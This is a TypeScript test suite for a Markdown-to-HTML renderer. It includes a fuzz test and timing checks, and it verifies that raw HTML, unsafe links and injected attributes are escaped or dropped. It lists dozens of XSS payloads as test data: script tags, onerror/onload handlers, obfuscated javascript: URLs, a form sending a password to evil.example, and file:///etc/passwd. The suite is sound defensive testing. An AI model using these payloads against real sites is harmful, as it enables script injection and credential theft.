import fc from "fast-check";
import { expect, test } from "vitest";

import { skills } from "~/content/skills/skill-map";
import { renderMarkdown } from "~/markdown/render.server";

const allowed: Record<string, readonly string[]> = {
  a: ["href", "title", "rel"],
  img: ["src", "width", "height", "loading", "alt"],
  code: ["class"],
  ol: ["start"],
  td: ["align"],
  th: ["align"],
};
const plain = "blockquote br del em h2 h3 h4 h5 h6 hr li p pre strong table tbody thead tr ul";
const tags = new Set([...plain.split(" "), ...Object.keys(allowed)]);

/** What a browser's own tokens show that a reader could not have written. */
async function auditOf(html: string) {
  const found: string[] = [];
  await new HTMLRewriter()
    .on("*", {
      element(element) {
        const tag = element.tagName.toLowerCase();
        if (!tags.has(tag)) found.push(`<${tag}>`);
        // The DOM's type of an element hides the rewriter's own, whose attributes are pairs.
        const attributes = element.attributes as unknown as Iterable<[string, string]>;
        for (const [name, value] of attributes) {
          if (!allowed[tag]?.includes(name)) found.push(`<${tag} ${name}>`);
          if (name === "src" && !value.startsWith("/files/images/")) found.push(`src ${value}`);
          if (name === "href" && !isHarmless(decode(value))) found.push(`href ${value}`);
        }
      },
      comments: () => void found.push("comment"),
    })
    .onDocument({ doctype: () => void found.push("doctype") })
    .transform(new Response(html))
    .text();
  return found;
}

function decode(attribute: string) {
  const characters: Record<string, string> = {
    "&quot;": '"',
    "&#39;": "'",
    "&lt;": "<",
    "&gt;": ">",
    "&amp;": "&",
  };
  return attribute.replace(/&(?:quot|#39|lt|gt|amp);/g, (each) => characters[each] ?? each);
}

/** By the browser's own reading of an address on a page of ours. */
function isHarmless(href: string) {
  const base = "https://here.invalid/page";
  if (!URL.canParse(href, base)) return true;
  const url = new URL(href, base);
  const goesElsewhere = url.host !== "here.invalid" && !/^(https?|ircs?):\/\//i.test(href);
  return (
    ["http:", "https:", "irc:", "ircs:", "mailto:", "xmpp:"].includes(url.protocol) &&
    url.username === "" &&
    (!goesElsewhere || ["mailto:", "xmpp:"].includes(url.protocol))
  );
}

const raw = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<svg/onload=alert(1)>",
  "text <svg onload=alert(1)> text",
  '<img src=x onerror="alert(1)">',
  "<details open ontoggle=alert(1)>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<![CDATA[<script>alert(1)</script>]]>",
  "<!-- <script>alert(1)</script> -->",
  "<?php echo '<script>alert(1)</script>'; ?>",
  "<!DOCTYPE html>",
  "<kbd><img src=x onerror=alert(1)></kbd>",
  "<pre><b onclick=alert(1)>x</b></pre>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<a href=javascript:alert(1)>x</a>",
  "<style>*{display:none}</style>",
  "<form action=//evil.example><input name=password>",
  "<base href=//evil.example>",
  "<p id=main class=wrap style='position:fixed'>x",
];

test.each(raw)("raw HTML is shown as it was typed: %s", async (source) => {
  const html = renderMarkdown(source);
  expect(await auditOf(html)).toEqual([]);
  expect(html).toContain("&lt;");
});

const refused = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java&#10;script:alert(1)",
  "java&#x09;script:alert(1)",
  "java&Tab;script:alert(1)",
  "javascript&colon;alert(1)",
  "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
  "<javascript:alert(1)>",
  "<\u0001javascript:alert(1)>",
  "<java\u00adscript:alert(1)>",
  "<java\u200bscript:alert(1)>",
  "<\u202ejavascript:alert(1)>",
  "%6Aavascript:alert(1)",
  "javascript%3Aalert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml,<svg/onload=alert(1)>",
  "file:///etc/passwd",
  "blob:https://here.invalid/1",
  "intent://evil#Intent;end",
  "ftp://evil.example",
  "tel:123",
  "//evil.example",
  "/\\evil.example",
  "\\\\\\\\evil.example",
  "https:evil.example",
  "https:/evil.example",
  "https:///evil.example",
  "https://user:pw@evil.example",
  "https://trusted.example@evil.example",
];

test.each(refused)("a refused link keeps its text: %s", async (address) => {
  for (const source of [`[a text](${address})`, `[a text][ref]\n\n[ref]: ${address}`]) {
    const html = renderMarkdown(source);
    expect(html).not.toContain("<a ");
    expect(html).toContain("a text");
    expect(await auditOf(html)).toEqual([]);
  }
  expect(renderMarkdown(`![a picture](${address})`)).not.toContain("<a ");
});

test.each([
  ["/dashboard", "/dashboard"],
  ["guides/5", "guides/5"],
  ["./here", "./here"],
  ["../up", "../up"],
  ["#part", "#part"],
  ["?page=2", "?page=2"],
  ["/find?a=1&b=2", "/find?a=1&amp;b=2"],
  ["/find?a=1&amp;b=2", "/find?a=1&amp;b=2"],
  ["/find?time=10:30", "/find?time=10:30"],
  ["http://example.org", "http://example.org"],
  ["HTTPS://example.org/a_(b)", "HTTPS://example.org/a_(b)"],
  ["irc://irc.example.org/room", "irc://irc.example.org/room"],
  ["ircs://irc.example.org/room", "ircs://irc.example.org/room"],
  ["mailto:a@example.org", "mailto:a@example.org"],
  ["xmpp:a@example.org", "xmpp:a@example.org"],
  ["</with a space>", "/with%20a%20space"],
])("a link may go to %s", async (address, href) => {
  const html = renderMarkdown(`[a text](${address})`);
  expect(html).toBe(`<p><a href="${href}" rel="nofollow ugc noopener noreferrer">a text</a></p>\n`);
  expect(await auditOf(html)).toEqual([]);
});

test.each([
  '[a](/b "x" onmouseover="alert(1)")',
  "[a](/b 'x\" onmouseover=alert(1)')",
  '[a](/b"onmouseover="alert(1))',
  '![x" onerror="alert(1)](/a.png "y" onerror="alert(1)")',
  "![x' onerror='alert(1)](https://example.org/a.png)",
  '```"onmouseover="alert(1)\nx\n```',
  '```js"><script>alert(1)</script>\nx\n```',
  "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "# <img src=x onerror=alert(1)>",
  "- [x] <b>done</b>\n- [ ] [x](javascript:alert(1))",
  "a[^1]\n\n[^1]: <script>alert(1)</script>",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "[a <b onclick=alert(1)>](/x)",
  '<https://example.org/"onmouseover=alert(1)>',
  "https://example.org/<script>alert(1)</script>",
  "`<script>alert(1)</script>`",
  "\\<script>alert(1)\\</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
])("nothing breaks out of its place: %s", async (source) => {
  expect(await auditOf(renderMarkdown(source))).toEqual([]);
});

test("images become links, and words inside a link", () => {
  expect(renderMarkdown("![A cat](https://example.org/cat.png)")).toBe(
    '<p><a href="https://example.org/cat.png" rel="nofollow ugc noopener noreferrer">A cat</a></p>\n',
  );
  expect(renderMarkdown("[see **![A cat](/cat.png)**](/cats)")).toBe(
    '<p><a href="/cats" rel="nofollow ugc noopener noreferrer">see <strong>A cat</strong></a></p>\n',
  );
});

test("an uploaded picture that is described is shown, with the room that it needs", async () => {
  const href = "/files/images/0b0e1a52-1111-4222-8333-444455556666-800x600.png";
  const html = renderMarkdown(`![A "desk" & <b>lamp</b>](${href} "tip")`);
  expect(html).toBe(
    `<p><img src="${href}" width="800" height="600" loading="lazy" alt="A &quot;desk&quot; &amp; &lt;b&gt;lamp&lt;/b&gt;"></p>\n`,
  );
  expect(await auditOf(html)).toEqual([]);
  expect(renderMarkdown(`![](${href})`)).not.toContain("<img");
  for (const other of [`https://evil.example${href}`, `${href}?x`, href.replace("-800x600", "")]) {
    expect(renderMarkdown(`![A desk](${other})`)).toContain("<a href=");
  }
  expect(renderMarkdown(`[see ![A desk](${href})](/desks)`)).not.toContain("<img");
});

test("headings carry no id and leave the first level to the page", () => {
  expect(renderMarkdown("# One\n\n### Three")).toBe("<h2>One</h2>\n<h3>Three</h3>\n");
});

test("paragraphs, emphasis and lists", () => {
  expect(renderMarkdown("One *two* **three**.\n\n- four\n- five & six")).toBe(
    "<p>One <em>two</em> <strong>three</strong>.</p>\n<ul>\n<li>four</li>\n<li>five &amp; six</li>\n</ul>\n",
  );
  expect(renderMarkdown("1. **First.** Do\n2. Then")).toContain(
    "<ol>\n<li><strong>First.</strong>",
  );
  expect(renderMarkdown("a &copy; b &amp; c")).toBe("<p>a &copy; b &amp; c</p>\n");
});

test("characters that only disturb are taken out", () => {
  expect(renderMarkdown("a\u202eb\u2066c\u0000d")).toBe("<p>abc\ufffdd</p>\n");
});

test("every explanation of a skill is paragraphs, lists and emphasis", async () => {
  for (const { id, explanation } of skills) {
    const html = renderMarkdown(explanation);
    expect(await auditOf(html), id).toEqual([]);
    expect(html, id).not.toMatch(/&lt;|<pre|<h\d|<table|\*\*/);
  }
});

test.each([
  ["emphasis that never closes", (size: number) => "_a__b_".repeat(size / 6)],
  ["stars around a letter", (size: number) => `${"*".repeat(size / 2)}a${"*".repeat(size / 2)}`],
  ["quotes in quotes", (size: number) => ">".repeat(size)],
  ["spaced quotes in quotes", (size: number) => "> ".repeat(size / 2)],
  ["lists in lists", (size: number) => `${"- ".repeat(size / 2)}a`],
  ["mixed nesting", (size: number) => `${"> - 1. ".repeat(size / 7)}a`],
  ["open brackets", (size: number) => "[".repeat(size)],
  ["open links", (size: number) => "[a](".repeat(size / 4)],
  ["open tags", (size: number) => "<a ".repeat(size / 3)],
  ["backticks", (size: number) => "`a``".repeat(size / 4)],
  ["table cells", (size: number) => `${"|a".repeat(size / 4)}\n${"|-".repeat(size / 4)}`],
])("a long text of %s is rendered in time", async (_, make) => {
  const started = performance.now();
  const html = renderMarkdown(make(20_000));
  expect(performance.now() - started).toBeLessThan(1000);
  expect(await auditOf(html)).toEqual([]);
});

test("no text at all gets anything else through", async () => {
  const fragments = fc.constantFrom(
    ...raw,
    ...refused.map((address) => `[x](${address})`),
    ..."* _ ` # > - [ ] ( ) ! < & ; : \\ \n | ~ \" '".split(" "),
    "\n\n",
    "```",
    "    ",
  );
  const text = fc.oneof(
    fc.string({ unit: "binary", maxLength: 60 }),
    fc
      .array(fc.oneof(fragments, fc.string({ maxLength: 8 })), { maxLength: 12 })
      .map((parts) => parts.join("")),
  );
  await fc.assert(
    fc.asyncProperty(text, async (source) => {
      expect(await auditOf(renderMarkdown(source))).toEqual([]);
    }),
    { numRuns: 600 },
  );
});
